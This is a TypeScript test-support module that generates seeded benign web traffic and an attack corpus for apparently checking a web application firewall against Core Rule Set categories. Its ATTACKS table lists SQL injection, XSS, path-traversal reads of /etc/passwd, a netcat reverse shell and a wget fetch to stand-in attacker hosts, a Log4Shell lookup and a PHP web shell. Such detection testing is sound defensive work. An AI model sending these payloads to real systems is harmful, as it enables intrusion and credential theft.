// Request corpora for the differential test and the bench: benign traffic (browsing, search,
// forms, JSON APIs, uploads) and attacks of every CRS category, generated from a fixed seed.
import type { FtwRequest } from "./ftw.ts";
import { seededRandom as rng } from "../../../../test/support/random.ts";


const WORDS = ("apple garden river mountain coffee window yellow travel music planet history science ticket " +
  "market silver orange summer winter holiday recipe bicycle camera office letter number family school " +
  "weather animal forest kitchen doctor review paper guitar station sunday picture village journey butter").split(" ");
const UAS = [
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
  "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_2) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Safari/605.1.15",
  "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
  "Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
];
const NAMES = ["Alice Martin", "Bob Lee", "Carla Gomez", "Deepak Rao", "Emma Schmidt", "Farid Haddad", "Grace Kim"];

function baseHeaders(r: () => number): Array<[string, string]> {
  const h: Array<[string, string]> = [
    ["Host", "shop.example.com"],
    ["User-Agent", UAS[Math.floor(r() * UAS.length)]],
    ["Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"],
    ["Accept-Language", r() < 0.5 ? "en-US,en;q=0.9" : "de-DE,de;q=0.8,en;q=0.5"],
    ["Accept-Encoding", "gzip, deflate, br"],
  ];
  if (r() < 0.6) h.push(["Cookie", `session=${Math.floor(r() * 1e16).toString(16)}; theme=${r() < 0.5 ? "dark" : "light"}`]);
  if (r() < 0.4) h.push(["Referer", "https://shop.example.com/"]);
  return h;
}

const word = (r: () => number) => WORDS[Math.floor(r() * WORDS.length)];
const phrase = (r: () => number, n: number) => Array.from({ length: n }, () => word(r)).join(" ");

function request(method: string, uri: string, headers: Array<[string, string]>, body = ""): FtwRequest {
  const b = Buffer.from(body, "utf8");
  if (b.length > 0) headers.push(["Content-Length", String(b.length)]);
  return { method, uri, version: "HTTP/1.1", headers, body: b };
}

export function benignCorpus(count: number, seed = 1): FtwRequest[] {
  const r = rng(seed);
  const out: FtwRequest[] = [];
  for (let i = 0; i < count; i++) {
    const kind = Math.floor(r() * 7);
    const h = baseHeaders(r);
    switch (kind) {
      case 0: out.push(request("GET", ["/", "/index.html", "/about", "/contact", "/static/app.js", "/images/logo.png", "/css/site.css"][Math.floor(r() * 7)], h)); break;
      case 1: out.push(request("GET", `/products/${Math.floor(r() * 10000)}?color=${word(r)}&size=${["s", "m", "l"][Math.floor(r() * 3)]}`, h)); break;
      case 2: out.push(request("GET", `/search?q=${encodeURIComponent(phrase(r, 1 + Math.floor(r() * 3)))}&page=${1 + Math.floor(r() * 9)}`, h)); break;
      case 3: out.push(request("GET", `/blog/${2020 + Math.floor(r() * 5)}/${1 + Math.floor(r() * 12)}/${phrase(r, 3).replace(/ /g, "-")}`, h)); break;
      case 4: {
        h.push(["Content-Type", "application/x-www-form-urlencoded"]);
        const name = NAMES[Math.floor(r() * NAMES.length)];
        const body = `name=${encodeURIComponent(name)}&email=${encodeURIComponent(name.split(" ")[0].toLowerCase() + "@example.com")}&message=${encodeURIComponent(phrase(r, 8))}&newsletter=on`;
        out.push(request("POST", "/contact", h, body));
        break;
      }
      case 5: {
        h.push(["Content-Type", "application/json"]);
        const body = JSON.stringify({ name: NAMES[Math.floor(r() * NAMES.length)], quantity: 1 + Math.floor(r() * 5), tags: [word(r), word(r)], note: phrase(r, 5) });
        out.push(request("POST", `/api/v1/orders`, h, body));
        break;
      }
      default: {
        const boundary = "----formboundary" + Math.floor(r() * 1e9);
        h.push(["Content-Type", `multipart/form-data; boundary=${boundary}`]);
        const body = `--${boundary}\r\nContent-Disposition: form-data; name="title"\r\n\r\n${phrase(r, 3)}\r\n` +
          `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${word(r)}.txt"\r\nContent-Type: text/plain\r\n\r\n${phrase(r, 12)}\r\n--${boundary}--\r\n`;
        out.push(request("POST", "/upload", h, body));
      }
    }
  }
  return out;
}

/** Attack payloads by CRS category, each sent in a query argument, a form body, a cookie or a header. */
const ATTACKS: Record<string, string[]> = {
  sqli: ["1' OR '1'='1", "1 UNION SELECT username, password FROM users--", "'; DROP TABLE users; --", "1 AND SLEEP(5)", "admin'--", "1' AND extractvalue(1,concat(0x7e,version()))--", "1;WAITFOR DELAY '0:0:5'--", "' or 1=1 limit 1 -- -+"],
  xss: ["<script>alert(1)</script>", "<img src=x onerror=alert(document.cookie)>", "\"><svg/onload=alert(1)>", "javascript:alert(1)", "<iframe src=\"javascript:alert(1)\">", "<body onload=alert(1)>"],
  lfi: ["../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/shadow", "....//....//etc/passwd", "%2e%2e%2f%2e%2e%2fetc%2fpasswd"],
  rfi: ["http://evil.example/shell.txt?", "https://203.0.113.9/x.php", "ftp://evil.example/backdoor"],
  rce: [";cat /etc/passwd", "| nc -e /bin/sh 203.0.113.9 4444", "$(wget http://evil.example/x)", "`id`", "; powershell -enc SQBFAFgA", "&& whoami"],
  php: ["<?php system($_GET['c']); ?>", "php://input", "phpinfo()", "O:8:\"stdClass\":0:{}", "base64_decode(", "file_get_contents('/etc/passwd')"],
  node: ["require('child_process').exec('id')", "_$$ND_FUNC$$_function(){}", "this.constructor.constructor('return process')()"],
  java: ["${jndi:ldap://evil.example/a}", "java.lang.Runtime.getRuntime().exec(\"id\")", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA"],
  session: ["PHPSESSID=abc123def", "jsessionid=1234567890"],
};

export function attackCorpus(seed = 2): FtwRequest[] {
  const r = rng(seed);
  const out: FtwRequest[] = [];
  for (const [category, payloads] of Object.entries(ATTACKS)) {
    for (const p of payloads) {
      const enc = encodeURIComponent(p);
      out.push(request("GET", `/search?q=${enc}`, baseHeaders(r)));
      out.push(request("GET", `/item?id=${enc}&${category}=1`, baseHeaders(r)));
      const form = baseHeaders(r);
      form.push(["Content-Type", "application/x-www-form-urlencoded"]);
      out.push(request("POST", "/login", form, `user=admin&password=${enc}`));
      const json = baseHeaders(r);
      json.push(["Content-Type", "application/json"]);
      out.push(request("POST", "/api/v1/items", json, JSON.stringify({ name: p, qty: 1 })));
      const cookie = baseHeaders(r).filter(([k]) => k !== "Cookie");
      cookie.push(["Cookie", `pref=${enc}`]);
      out.push(request("GET", "/account", cookie));
    }
  }
  // Scanners and protocol abuse (CRS 913, 920, 921).
  for (const ua of ["sqlmap/1.7.2#stable (https://sqlmap.org)", "Nikto/2.5.0", "masscan/1.3", "nessus"]) {
    const h = baseHeaders(r).filter(([k]) => k !== "User-Agent");
    h.push(["User-Agent", ua]);
    out.push(request("GET", "/", h));
  }
  out.push(request("GET", "/", [["Host", "shop.example.com"]]));
  out.push(request("GET", "/?a=%0d%0aSet-Cookie:%20x=1", baseHeaders(r)));
  out.push(request("TRACE", "/", baseHeaders(r)));
  out.push(request("GET", "/backup.sql", baseHeaders(r)));
  out.push(request("GET", "/.git/config", baseHeaders(r)));
  out.push(request("GET", "/wp-config.php.bak", baseHeaders(r)));
  return out;
}
